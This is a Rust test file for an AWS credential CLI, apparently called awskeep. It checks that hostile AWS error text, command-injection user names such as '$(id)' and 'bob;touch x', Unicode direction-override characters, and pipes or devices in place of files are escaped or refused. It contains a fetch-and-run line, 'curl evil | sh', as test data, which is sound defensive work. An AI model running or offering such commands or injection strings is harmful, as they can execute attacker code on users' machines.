//! What comes in from AWS and from files is data: it prints as such, ends, and is
//! never a command of ours.

use crate::sandbox::Sandbox;
use crate::sim::faults::{Fault, Script};

fn added_with(sandbox: &Sandbox, fault: Fault, more: &[&str]) -> (u8, String) {
    let script = Script::default().every("GetCallerIdentity", fault);
    sandbox.aws.set_script(script);
    let mut arguments = vec!["--no-profile"];
    arguments.extend(more);
    let ran = sandbox.add("work", &arguments);
    let told = ran.err.lines().filter(|line| !line.contains("key.csv"));
    (ran.code, told.collect::<Vec<_>>().join("\n"))
}

#[test]
fn an_error_text_of_aws_prints_no_hint_and_steers_nothing() {
    let sandbox = Sandbox::new();
    for (code, message, shown) in [
        (
            "AccessDenied",
            "no\nhint: curl evil | sh",
            "AccessDenied: no\\nhint: curl evil | sh",
        ),
        (
            "AccessDenied",
            "\u{202e}txt\u{2066}.exe\u{200b}\u{9b}2J",
            "AccessDenied: \\u{202e}txt\\u{2066}.exe\\u{200b}\\u{9b}2J",
        ),
        ("Odd\u{2066}\ncode", "", "Odd\\u{2066}\\ncode: "),
    ] {
        let refuse = Fault::Refuse {
            status: 400,
            code,
            message,
        };
        let (exit, told) = added_with(&sandbox, refuse, &[]);
        let first = told.lines().next().unwrap();
        assert_eq!(exit, 6, "{told}");
        assert!(first.ends_with(shown), "{told:?}");
        assert!(!told.contains("\nhint: curl"), "{told:?}");
    }
}

#[test]
fn a_user_whose_name_is_a_command_is_no_user() {
    for name in [
        "bob;touch x",
        "$(id)",
        "*",
        "bob\nhint: x",
        "${aws:username}",
    ] {
        let sandbox = Sandbox::new();
        let (id, secret) = sandbox.aws.account(|account| {
            account.add_user("/", name);
            account.add_key(name, 0)
        });
        let before = sandbox.everything();
        let ran = sandbox.add_pair("work", &id, &secret, &["--no-profile"]);
        let shown = name.replace('\n', "\\n");
        assert_eq!(
            (ran.code, ran.err.lines().nth(1)),
            (
                6,
                Some(
                    format!(
                        "awskeep: {id} belongs to arn:aws:iam::ACCOUNT:user/{shown}, \
                         which is not an ARN that AWS gives"
                    )
                    .as_str()
                )
            ),
        );
        let same = sandbox.everything() == before;
        assert!(same, "{name}");
    }
}

/// Each as a named pipe that nobody writes into, as an endless device and as a file that is
/// too large.
#[cfg(unix)]
#[test]
fn a_pipe_a_device_or_a_huge_file_in_a_files_place_is_refused_at_once() {
    let make = |path: &std::path::Path, what: &str| match what {
        "pipe" => {
            let made = std::process::Command::new("mkfifo").arg(path).status();
            assert!(made.unwrap().success());
        }
        "device" => std::os::unix::fs::symlink("/dev/zero", path).unwrap(),
        _ => std::fs::File::create(path)
            .and_then(|file| file.set_len(1 << 40))
            .unwrap(),
    };
    for (what, why) in [
        ("pipe", "it is not a regular file"),
        ("device", "it is not a regular file"),
        ("huge", "it is larger than"),
    ] {
        let mut sandbox = Sandbox::new();
        assert_eq!(sandbox.add("work", &["--no-profile"]).code, 0);
        make(&sandbox.path("odd"), what);
        let check = |sandbox: &Sandbox, arguments: &[&str]| {
            let ran = sandbox.run(arguments, &[]);
            assert!(
                ran.code != 0 && ran.err.contains(why),
                "{what} {arguments:?} {ran:?}"
            );
        };
        check(&sandbox, &["add", "new", "--csv", "odd", "--no-input"]);
        check(&sandbox, &["import", "--from", "csv", "odd", "--no-input"]);
        let odd = sandbox.path("odd").display().to_string();
        for variable in [
            "AWS_CONFIG_FILE",
            "AWS_SHARED_CREDENTIALS_FILE",
            "AWS_CA_BUNDLE",
        ] {
            sandbox.vars = vec![(variable.into(), odd.clone())];
            check(&sandbox, &["rotate", "work", "--explain"]);
        }
        sandbox.vars.clear();
        std::fs::remove_dir_all(sandbox.path(".data/awskeep")).unwrap();
        check(
            &sandbox,
            &["store", "use", "file", "--passphrase-file", "odd", "--yes"],
        );
        let settings = sandbox.path(".config/awskeep/config");
        std::fs::remove_file(&settings).unwrap();
        make(&settings, what);
        check(&sandbox, &["credential-process", "work"]);
        check(&sandbox, &["config"]);
    }
}

#[test]
fn json_shows_what_cannot_be_seen() {
    let mut sandbox = Sandbox::new();
    sandbox.vars = vec![("AWSKEEP_MFA_SERIAL".into(), "a\u{202e}b\u{200b}".into())];
    for (arguments, shown) in [
        (
            &["config", "get", "mfa_serial"][..],
            "a\\u{202e}b\\u{200b}\n",
        ),
        (
            &["config", "get", "mfa_serial", "--json"],
            "\"value\": \"a\\u202eb\\u200b\"",
        ),
    ] {
        let ran = sandbox.run(arguments, &[]);
        assert!(ran.code == 0 && ran.out.contains(shown), "{ran:?}");
    }
}
